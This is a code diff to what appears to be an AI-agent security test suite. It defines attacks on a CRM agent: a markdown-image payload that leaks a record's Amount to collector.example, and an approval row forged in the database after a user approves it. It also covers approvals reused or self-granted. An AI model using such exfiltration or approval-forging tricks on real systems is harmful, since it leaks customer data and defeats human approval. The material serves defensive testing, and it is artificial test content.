@@ -45,7 +45,7 @@ def _poisoned(name: str, goal: Goal | None, layers: tuple[str, ...], *steps: Ste
 
 
 _SHOW = call("get_record", object="Opportunity", record_id=RENEWAL)
-_LEAK = say(lambda view: f"![x](https://collector.example/p.png?d={view.value('Amount')})")
+_LEAK = say(lambda view: f"![x](//collector.example/p.png?d={view.value('Amount')})")
 
 
 # A yes that is moved, forged or used again.
@@ -56,6 +56,8 @@ async def swap(stage: Any) -> None:
     # tenant-id: the attack happens inside the service, in the tenant that is attacked
     async with stage.service.database.session(TenantId(NORTHWIND), write=True) as session:
         row = await approval_rows.find(session, stage.pending()[0]["approval_id"], for_update=True)
+        if row is None:
+            return
         row.arguments = {**row.arguments, "fields": {"StageName": "Closed"}}
         fields = [{**field, "new": "Closed"} for field in row.changes[0]["fields"]]
         row.changes = [{**row.changes[0], "fields": fields}]
@@ -89,7 +91,7 @@ async def _resume_twice(stage: Any) -> None:
 
 
 def _closed(outcome: Outcome) -> bool:
-    return outcome.find("Opportunity", RENEWAL)["StageName"] == "Closed"
+    return bool(outcome.find("Opportunity", RENEWAL)["StageName"] == "Closed")
 
 
 def _twice(outcome: Outcome) -> bool:
@@ -101,8 +103,10 @@ def _alone(outcome: Outcome) -> bool:
     return any(one["status"] == "applied" and one["decided_by"] == one["requester"] for one in outcome.approvals)
 
 
-def _at_the_desk(name: str, goal: Goal, layers: tuple[str, ...], **deeds: Deed) -> Attack:
-    return Attack(Family.APPROVAL, name, STAGE, layers, goal=goal, **deeds)
+def _at_the_desk(
+    name: str, goal: Goal, layers: tuple[str, ...], *, meanwhile: Deed | None = None, afterwards: Deed | None = None
+) -> Attack:
+    return Attack(Family.APPROVAL, name, STAGE, layers, goal=goal, meanwhile=meanwhile, afterwards=afterwards)
 
 
 # A turn that never ends.
